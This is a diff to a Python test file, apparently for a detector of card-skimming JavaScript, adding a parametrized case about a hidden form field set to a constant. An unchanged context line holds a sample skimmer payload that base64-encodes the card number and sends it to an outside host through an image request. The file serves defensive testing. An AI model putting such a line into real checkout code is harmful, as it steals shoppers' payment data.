@@ -38,6 +38,8 @@ def test_a_card_swapped_for_the_processors_answer_is_suspicious(analyze) -> None
 @pytest.mark.parametrize("why, change", [
     ("no answer put into the form (a copy, not a swap)",
      lambda code: code.replace("hidden.value = tok.id;", "")),
+    ("a field made in the callback gets a constant, not the answer",
+     lambda code: code.replace("hidden.value = tok.id;", "hidden.value = '1';")),
     ("the card also goes to a second host",
      lambda code: code + "new Image().src = 'https://metrics-drop.top/c?d=' + "
                          "btoa(form.querySelector('[autocomplete=\"cc-number\"]').value);\n"),
